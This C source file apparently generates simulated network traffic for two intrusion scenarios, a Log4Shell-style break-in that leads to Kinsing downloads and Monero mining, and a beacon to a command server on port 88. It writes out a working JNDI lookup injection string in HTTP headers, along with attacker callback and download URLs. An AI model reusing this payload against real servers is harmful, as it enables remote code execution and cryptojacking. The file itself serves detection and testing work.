// SPDX-License-Identifier: GPL-2.0-or-later
// The two cases, step by step. Scripts hold comments and echo, programs are a magic number and noise.
#include "directory.h"
#include "ordinary.h"
#include "scenes.h"

#include <stdio.h>

#define A "203.0.113.233" // breaks in
#define B "203.0.113.158" // serves files
#define C "203.0.113.159" // serves one again
#define D "203.0.113.201" // mining pool
#define E "203.0.113.212" // command and files of case 2
#define CURL "curl/7.47.0"
#define WGET "Wget/1.17.1 (linux-gnu)"
#define JAVA "Java/1.8.0_191"

struct attack {
	struct stage *stage;
	struct chance chance;
	struct host victim;
};

struct fetch {
	uint32_t after_ms; // since the step before which it stands
	const char *address;
	uint16_t port;
	const char *uri, *agent;
	enum http_client client;
	enum body body;
	uint32_t bytes;
};

// One request on one connection, to a bare address.
static void fetch(struct attack *a, const struct fetch *f, uint64_t when_ns)
{
	struct host to = host_outside(f->address);
	char host[40];
	struct http_ask ask = {"GET", f->uri, host, f->agent, f->client, NULL, NULL};
	struct http_answer answer = {200, "nginx/1.14.0", f->body, f->bytes, false};
	struct talk t;

	snprintf(host, sizeof(host), f->port == 80 ? "%s" : "%s:%u", f->address, f->port);
	talk_open(&t, a->stage, &a->chance, &a->victim, &to, f->port, when_ns);
	http_exchange(&t, &ask, &answer, 400 * US);
	talk_close(&t, CLIENT, 1 * MS);
}

static void fetch_all(struct attack *a, const struct fetch *f, size_t count, uint64_t at_ns)
{
	for (size_t i = 0; i < count; i++)
		fetch(a, &f[i], at_ns + f[i].after_ms * MS);
}

// Nobody can read it: HTTPS from an address never seen.
static void break_in_encrypted(struct attack *a, uint64_t at_ns)
{
	struct host from = host_outside(A);
	struct talk t;

	talk_open(&t, a->stage, &a->chance, &from, &a->victim, 443, at_ns);
	tls_session(&t, &(struct tls_plan){TLS_GO, NULL, 2, 700, 500, 1 * SEC});
}

// The same in the clear: the lookup string, the LDAP answer that names a class, and the class.
static void break_in_clear(struct attack *a, uint64_t at_ns)
{
	static const struct fetch class = {0, A, 8000, "/Exploit.class", JAVA, HTTP_JAVA, BODY_CLASS, 1362};
	struct host from = host_outside(A);
	struct http_ask ask = {"GET",        "/",
			       "192.0.2.12", "${jndi:ldap://" A ":1389/Basic/x}",
			       HTTP_CURL,    "X-Api-Version: ${jndi:ldap://" A ":1389/Basic/x}\r\n",
			       NULL};
	struct http_answer answer = {200, "nginx/1.18.0", BODY_HTML, 900, false};
	struct talk t;

	talk_open(&t, a->stage, &a->chance, &from, &a->victim, 80, at_ns);
	http_exchange(&t, &ask, &answer, 400 * US);
	talk_close(&t, CLIENT, 40 * MS);
	talk_open(&t, a->stage, &a->chance, &a->victim, &from, 1389, at_ns + 190 * MS);
	ldap_reference(&t, "Basic/x", "Exploit", "http://" A ":8000/");
	fetch(a, &class, t.now_ns + 20 * MS);
}

static void stratum(struct attack *a, uint64_t at_ns)
{
	struct host pool = host_outside(D);
	struct message *m = &a->stage->message;
	struct talk t;

	talk_open(&t, a->stage, &a->chance, &a->victim, &pool, 3333, at_ns);
	message_text(m, "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"wallet-of-nobody\","
			"\"pass\":\"x\","
			"\"agent\":\"XMRig/6.16.2 (Linux x86_64) libuv/1.38.0 gcc/9.3.0\",\"algo\":[\"rx/0\"]}}\n");
	talk_say(&t, CLIENT, 400 * US);
	message_text(m, "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"a1\",\"job\":{\"blob\":"
			"\"0e0e\",\"job_id\":\"1\","
			"\"target\":\"b88d0600\",\"algo\":\"rx/0\",\"height\":2512340},\"status\":\"OK\"}}\n");
	talk_say(&t, SERVER, 2 * MS);
	for (unsigned i = 2; i < 22; i++) {
		uint64_t word = chance_next(&a->chance);

		if (i % 4 == 0) {
			message_format(m,
				       "{\"jsonrpc\":\"2.0\",\"method\":\"job\",\"params\":{\"blob\":\"0e0e%04x\","
				       "\"job_id\":\"%u\","
				       "\"target\":\"b88d0600\",\"algo\":\"rx/0\",\"height\":%u}}\n",
				       chance_below(&a->chance, 65536), i, 2512340 + i);
			talk_say(&t, SERVER, chance_between(&a->chance, 4 * SEC, 12 * SEC));
			continue;
		}
		message_format(m,
			       "{\"id\":%u,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"a1\",\"job_"
			       "id\":\"%u\","
			       "\"nonce\":\"%08x\",\"result\":\"%016llx\"}}\n",
			       i, i / 4 * 4, (unsigned)(word >> 34), (unsigned long long)word);
		talk_say(&t, CLIENT, chance_between(&a->chance, 6 * SEC, 22 * SEC));
		message_format(m, "{\"id\":%u,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":\"OK\"}}\n", i);
		talk_say(&t, SERVER, 2 * MS);
	}
	talk_close(&t, CLIENT, 10 * SEC);
}

void attack_case1(struct stage *s, uint64_t seed, uint64_t at_ns, bool clear)
{
	// The server calls back with agents it never used, on ports it never used; the second and third tell its own
	// address and what was found on it.
	static const struct fetch callbacks[] = {
		{6000, A, 12344, "/Basic/Command/Base64/ZWNobyBpbmVydA==", JAVA, HTTP_JAVA, BODY_TEXT, 60},
		{6420, A, 5874, "/192.0.2.12:443", CURL, HTTP_CURL, BODY_TEXT, 20},
		{7050, A, 5874, "/192.0.2.12:443/?host=web-12&user=www-data&kernel=5.10.0-9-amd64&cpus=4", CURL,
		 HTTP_CURL, BODY_TEXT, 20},
	};
	static const struct fetch downloads[] = {
		{72 * 60000 + 4100, B, 8081, "//lh.sh", CURL, HTTP_CURL, BODY_SHELL, 1900},
		{72 * 60000 + 9800, B, 8081, "/ExplorerUpd8f2a.class", JAVA, HTTP_JAVA, BODY_CLASS, 2216},
		{73 * 60000 + 2600, B, 8081, "/kinsing", WGET, HTTP_WGET, BODY_ELF, 61440},
		{73 * 60000 + 41300, B, 8081, "//libsystem.so", CURL, HTTP_CURL, BODY_LIBRARY, 26800},
		{84 * 60000 + 12700, C, 8081, "/ExplorerUpd8f2a.class", JAVA, HTTP_JAVA, BODY_CLASS, 2216},
	};
	struct attack a = {s, chance_of(seed, 101, clear, 0), host_inside(12)};

	if (clear)
		break_in_clear(&a, at_ns);
	else
		break_in_encrypted(&a, at_ns);
	fetch_all(&a, callbacks, sizeof(callbacks) / sizeof(*callbacks), at_ns);
	fetch_all(&a, downloads, sizeof(downloads) / sizeof(*downloads), at_ns);
	stratum(&a, at_ns + 86 * 60 * SEC + 20 * SEC);
}

// HTTP on the port the organisation knows only for Kerberos: a call every minute, a script, a program.
void attack_case2(struct stage *s, uint64_t seed, uint64_t at_ns)
{
	static const struct fetch files[] = {
		{14 * 60000 + 3300, E, 88, "/a/s.sh", "Mozilla/4.0 (compatible; upd 1.1)", HTTP_PLAIN, BODY_SHELL,
		 1400},
		{14 * 60000 + 7900, E, 88, "/a/agent64", "Mozilla/4.0 (compatible; upd 1.1)", HTTP_PLAIN, BODY_ELF,
		 48000},
	};
	struct attack a = {s, chance_of(seed, 102, 0, 0), host_inside(10)};
	struct host to = host_outside(E);

	for (unsigned i = 0; i < 45; i++) {
		char body[80];
		struct http_ask ask = {"POST",     "/gate", E ":88", "Mozilla/4.0 (compatible; upd 1.1)",
				       HTTP_PLAIN, NULL,    body};
		struct http_answer answer = {200, "nginx/1.14.0", BODY_TEXT, 16, false};
		struct talk t;

		snprintf(body, sizeof(body), "id=web10&n=%u&t=%08x", i, chance_below(&a.chance, 1 << 30));
		talk_open(&t, s, &a.chance, &a.victim, &to, 88,
			  at_ns + i * 60 * SEC + chance_below(&a.chance, 2500) * MS);
		http_exchange(&t, &ask, &answer, 400 * US);
		talk_close(&t, CLIENT, 1 * MS);
	}
	fetch_all(&a, files, sizeof(files) / sizeof(*files), at_ns);
}
